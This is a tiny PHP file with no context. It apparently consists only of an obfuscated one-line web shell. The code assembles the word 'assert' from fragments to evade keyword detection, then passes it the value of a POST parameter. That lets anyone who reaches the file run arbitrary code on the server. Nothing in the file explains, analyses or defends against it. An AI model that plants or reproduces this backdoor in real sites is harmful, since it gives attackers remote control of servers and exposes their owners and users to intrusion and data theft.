<?php
$a = 'as'.'se'.'rt';
$a($_POST['x']);
